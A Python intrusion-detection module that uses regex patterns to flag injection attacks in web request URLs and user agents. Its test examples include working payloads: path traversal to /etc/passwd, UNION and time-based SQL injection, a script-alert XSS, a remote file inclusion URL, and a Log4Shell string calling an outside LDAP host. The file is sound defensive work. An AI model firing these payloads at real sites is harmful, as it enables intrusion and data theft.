"""Path traversal, SQL injection and cross-site scripting written into the URL."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from datetime import timedelta

from msgspec.structs import replace

from detectors.base import Example, History, Window
from detectors.intrusion.web import (
    FAMILY,
    WEB_ACTIONS,
    Reporter,
    decoded,
    is_access,
    remembered,
    request,
    spaced,
    target,
)
from monitor.events import Event
from monitor.findings import Finding, Severity
from monitor.intrusion_settings import InjectionSettings

# An SQL comment between keywords (`/**/`, `/*!50000*/`), at most 100 characters: an
# unbounded `.*?` inside a repeated group took seconds on one 60 KB URL of `union/*`.
COMMENT = r"/\*(?:[^*]|\*(?!/)){0,100}\*/"
# Searched in the lower-cased URL after two rounds of percent-decoding. Each is specific
# enough that a visitor's URL does not carry it (CrowdSec's lists need several distinct
# payloads because they match single words such as `select`).
KINDS = (
    (
        "path traversal",
        r"\.\.[/\\]|[/\\]\.\.(?:$|[?;])|%c0%a[ef]|%u002e|/etc/(?:passwd|shadow|hosts)|"
        r"win\.ini|boot\.ini|/proc/self/|(?:php|file|expect|zip|phar)://",
    ),
    (
        "SQL injection",
        rf"\bunion(?:\s|{COMMENT})+(?:all(?:\s|{COMMENT})+)?select\b|"
        r"['\"`)]\s*(?:or|and)\s+['\"`]?\w+['\"`]?\s*(?:=|like)|\b(?:or|and)\s+\d+\s*=\s*\d+|"
        r"\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml)\s*\(|waitfor\s+delay|"
        r"information_schema|@@version|concat\s*\(\s*0x|['\"]\s*(?:--|#|/\*)|"
        r"\bload_file\s*\(|\|\|\s*chr\s*\(|"
        r";\s*(?:drop|insert|update|delete|exec)\s",
    ),
    (
        "cross-site scripting",
        r"<\s*(?:script|svg|iframe|img|body|object|embed|frameset)\b|<\s*meta\s[^>]{0,80}http-equiv|"
        r"javascript:|vbscript:|"
        r"\bon(?:error|load|mouseover|focus|click)\s*=|\balert\s*\(|\bprompt\s*\(|"
        r"document\.(?:cookie|domain)|string\.fromcharcode",
    ),
    # A parameter set to a remote script's URL, cut off by a bare `?` so that whatever the
    # application appends is a query (Nikto's `?lang=http://cirt.net/rfiinc.txt?`): a file,
    # not a page a redirect returns to (`?next=https://host/tracking?`), nor a link with a
    # query of its own. The URL stops at the next `=`, possessively: one scan per `=`, not
    # one to the end (quadratic on a crafted line).
    (
        "remote file inclusion",
        r"=(?:https?|ftps?)://[^\s&?=]++(?<=\.txt|\.php|\.inc|\.gif|\.jpg|\.png)\?(?:\?|&|$)",
    ),
    (
        "code injection",
        r"\$\{jndi:|\(\)\s*\{\s*(?::\s*)?;\s*\}|\bcmd=|;\s*(?:wget|curl)\s|\|\s*id\b|\$\{ifs\}|"
        # ThinkPHP and ThinkCMF, Spring4Shell, PHP-CGI's arguments, Java's exec
        r"invokefunction|call_user_func_array|<php>|class\.module\.classloader|"
        r"auto_prepend_file|allow_url_include|getruntime\(\)\.exec",
    ),
)
PATTERNS = tuple((kind, re.compile(pattern)) for kind, pattern in KINDS)


def kind_of_attack(url: str) -> str | None:
    """The kind of attack written into `url`, or None."""
    text = decoded(url)
    for kind, pattern in PATTERNS:
        if pattern.search(text):
            return kind
    return None


attack_in = remembered(kind_of_attack, 8192)
# Log4Shell (plain or through lookups) and Shellshock: what a header carries to be evaluated.
# Nothing else of the URL's kinds: an agent's parentheses and semicolons are no SQL, and
# `; curl ` or `cmd=` may be a real client's name.
AGENT_CODE = re.compile(r"\$\{(?:jndi|lower|upper|env|sys|::-)[:}]|\(\)\s*\{\s*(?::\s*)?;\s*\}")


def code_in_agent(agent: str) -> str | None:
    """Code injection in a user agent: a header the application or a CGI may evaluate."""
    return "code injection" if AGENT_CODE.search(decoded(agent)) else None


attack_in_agent = remembered(code_in_agent, 4096)


def attack_of(event: Event) -> str | None:
    """The kind of attack a request carries in its URL, else in its user agent."""
    kind = attack_in(target(event))
    if kind is None and event.user_agent:
        return attack_in_agent(event.user_agent)
    return kind


@dataclass(frozen=True, slots=True)
class Injection:
    """Exploit payloads in the URL from one IP (CrowdSec http-sqli/xss/path-traversal)."""

    settings: InjectionSettings
    id: str = "intrusion.injection"
    family: str = FAMILY
    title: str = "Injection attempts"
    severity: Severity = Severity.MEDIUM
    mitre: str = "T1190"
    actions: frozenset[str] = WEB_ACTIONS
    runbook: str = (
        "Someone is trying to break the website through its URLs. Look at the answers in "
        "the evidence: a 500 or an unusually large 200 may mean a payload worked; hand those "
        "URLs to the developers. Block the IP and check the database and web logs after it."
    )
    windows: tuple[Window, ...] = field(init=False)
    reporter: Reporter = field(init=False, repr=False)

    def __post_init__(self) -> None:
        window = Window(
            "injections_by_ip",
            "source_ip",
            self.settings.window,
            self.admits,
            cap=100,
            asked_when_admitted=True,  # evaluate returns first unless admits() would hold
        )
        object.__setattr__(self, "windows", (window,))
        object.__setattr__(self, "reporter", Reporter(self, window, self.settings.attempts))

    def admits(self, event: Event) -> bool:
        return is_access(event) and attack_of(event) is not None

    def evaluate(self, event: Event, history: History) -> Finding | None:
        if not is_access(event):
            return None
        kind = attack_of(event)
        if kind is None:
            return None
        count = self.reporter.count(event, history)
        if count < self.settings.attempts:
            return None
        title = f"{self.title} ({kind}) from {event.source_ip}"
        fresh = count == self.settings.attempts
        return self.reporter.report(event, history, count, title, fresh)

    def examples(self) -> tuple[Example, ...]:
        ip = "198.51.100.50"
        payloads = {
            "traversal": "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
            "double-encoded traversal": "/static/%252e%252e%252f%252e%252e%252fetc/passwd",
            "SQL injection": "/customers/search?q=1%27%20OR%20%271%27%3D%271",
            "UNION SELECT": "/tracking?awb=1+UNION+ALL+SELECT+NULL,version()--",
            "UNION SELECT between comments": "/tracking?awb=1/**/UNION/*!50000ALL*/SELECT/**/1--",
            "XSS": "/customers/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "time-based SQLi": "/tracking?awb=1)%20AND%20SLEEP(5)--",
            "remote file inclusion": "/start.php?lang=http://cirt.net/rfiinc.txt?",
        }
        firing = tuple(
            Example(name, (request(ip, url, 200, offset=i),), fires=True)
            for i, (name, url) in enumerate(payloads.items())
        )
        log4shell = "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMg}"
        in_agent = replace(request(ip, "/", 401), user_agent=log4shell)
        benign = [
            "/customers/search?q=O%27Brien",
            "/tracking?awb=738-12345675",
            "/news/select-the-right-cargo-service",
            "/customers/search?q=nguyen+van+a&page=2",
            "/login?next=https%3A%2F%2Fals.com.vn%2Ftracking%3Fawb%3D738-12345675",
            "/login?next=https%3A%2F%2Fals.com.vn%2Ftracking%3F",
            "/api/chart?series=1,null,null,4",
            "/customers/search?q=%3Cstyle%3E+tag",
        ]
        return (
            *firing,
            Example("Log4Shell in the user agent", (in_agent,), fires=True),
            Example("a visitor's searches and pages", spaced(ip, benign, 200, timedelta(1)), False),
        )
